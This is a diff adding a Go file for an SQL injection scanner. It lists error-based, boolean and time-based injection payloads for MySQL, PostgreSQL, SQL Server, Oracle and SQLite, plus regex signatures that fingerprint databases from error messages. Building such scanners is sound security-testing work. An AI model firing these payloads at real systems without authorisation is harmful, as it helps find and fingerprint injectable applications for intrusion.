@@ -0,0 +1,94 @@
+package sqli
+
+import "regexp"
+
+// errorPayloads try to break out of the surrounding SQL syntax
+var errorPayloads = []string{
+	"'",
+	"\"",
+	"')",
+	"\")",
+	"`",
+	"\\",
+	"' AND extractvalue(1, concat(0x7e, version()))-- -",
+	"' AND 1=CONVERT(int,@@version)-- -",
+	"' AND 1=CAST(version() AS int)-- -",
+}
+
+type booleanPair struct {
+	True  string
+	False string
+}
+
+// booleanPayloads are appended to the original parameter value
+var booleanPayloads = []booleanPair{
+	{True: " AND 1=1", False: " AND 1=2"},
+	{True: "' AND '1'='1", False: "' AND '1'='2"},
+	{True: "\" AND \"1\"=\"1", False: "\" AND \"1\"=\"2"},
+	{True: "' AND 1=1-- -", False: "' AND 1=2-- -"},
+	{True: ") AND (1=1", False: ") AND (1=2"},
+}
+
+type timePayload struct {
+	DBMS    string
+	Payload string // %d is replaced with the delay in seconds
+}
+
+var timePayloads = []timePayload{
+	{DBMS: "MySQL", Payload: "' AND SLEEP(%d)-- -"},
+	{DBMS: "MySQL", Payload: " AND SLEEP(%d)"},
+	{DBMS: "MySQL", Payload: "' AND (SELECT * FROM (SELECT(SLEEP(%d)))a)-- -"},
+	{DBMS: "PostgreSQL", Payload: "' AND 1=(SELECT 1 FROM pg_sleep(%d))-- -"},
+	{DBMS: "PostgreSQL", Payload: "; SELECT pg_sleep(%d)-- -"},
+	{DBMS: "Microsoft SQL Server", Payload: "'; WAITFOR DELAY '0:0:%d'-- -"},
+	{DBMS: "Microsoft SQL Server", Payload: "; WAITFOR DELAY '0:0:%d'-- -"},
+	{DBMS: "Oracle", Payload: "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',%d)-- -"},
+	{DBMS: "SQLite", Payload: "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%d00000000/2))))-- -"},
+}
+
+type errorSignature struct {
+	DBMS    string
+	Pattern *regexp.Regexp
+}
+
+// errorSignatures fingerprint the backend DBMS from error messages
+var errorSignatures = []errorSignature{
+	{"MySQL", regexp.MustCompile(`(?i)SQL syntax.*?MySQL`)},
+	{"MySQL", regexp.MustCompile(`(?i)Warning.*?\Wmysqli?_`)},
+	{"MySQL", regexp.MustCompile(`(?i)MySQLSyntaxErrorException`)},
+	{"MySQL", regexp.MustCompile(`(?i)valid MySQL result`)},
+	{"MySQL", regexp.MustCompile(`(?i)check the manual that (corresponds to|fits) your MySQL server version`)},
+	{"MySQL", regexp.MustCompile(`(?i)XPATH syntax error`)},
+	{"MariaDB", regexp.MustCompile(`(?i)check the manual that (corresponds to|fits) your MariaDB server version`)},
+	{"PostgreSQL", regexp.MustCompile(`(?i)PostgreSQL.*?ERROR`)},
+	{"PostgreSQL", regexp.MustCompile(`(?i)Warning.*?\Wpg_`)},
+	{"PostgreSQL", regexp.MustCompile(`(?i)valid PostgreSQL result`)},
+	{"PostgreSQL", regexp.MustCompile(`(?i)PG::SyntaxError:`)},
+	{"PostgreSQL", regexp.MustCompile(`(?i)org\.postgresql\.util\.PSQLException`)},
+	{"PostgreSQL", regexp.MustCompile(`(?i)unterminated quoted string at or near`)},
+	{"Microsoft SQL Server", regexp.MustCompile(`(?i)Driver.*? SQL[\-\_\ ]*Server`)},
+	{"Microsoft SQL Server", regexp.MustCompile(`(?i)OLE DB.*? SQL Server`)},
+	{"Microsoft SQL Server", regexp.MustCompile(`(?i)\bSQL Server[^<"]+Driver`)},
+	{"Microsoft SQL Server", regexp.MustCompile(`(?i)Unclosed quotation mark after the character string`)},
+	{"Microsoft SQL Server", regexp.MustCompile(`(?i)System\.Data\.SqlClient\.SqlException`)},
+	{"Microsoft SQL Server", regexp.MustCompile(`(?i)Conversion failed when converting`)},
+	{"Oracle", regexp.MustCompile(`\bORA-\d{5}`)},
+	{"Oracle", regexp.MustCompile(`(?i)Oracle error`)},
+	{"Oracle", regexp.MustCompile(`(?i)quoted string not properly terminated`)},
+	{"SQLite", regexp.MustCompile(`(?i)SQLite/JDBCDriver`)},
+	{"SQLite", regexp.MustCompile(`(?i)SQLite\.Exception`)},
+	{"SQLite", regexp.MustCompile(`(?i)System\.Data\.SQLite\.SQLiteException`)},
+	{"SQLite", regexp.MustCompile(`(?i)sqlite3\.OperationalError`)},
+	{"SQLite", regexp.MustCompile(`(?i)SQLITE_ERROR`)},
+	{"SQLite", regexp.MustCompile(`(?i)unrecognized token:`)},
+}
+
+// matchError returns the DBMS and matched error text, if any
+func matchError(body string) (dbms, match string) {
+	for _, sig := range errorSignatures {
+		if m := sig.Pattern.FindString(body); m != "" {
+			return sig.DBMS, m
+		}
+	}
+	return "", ""
+}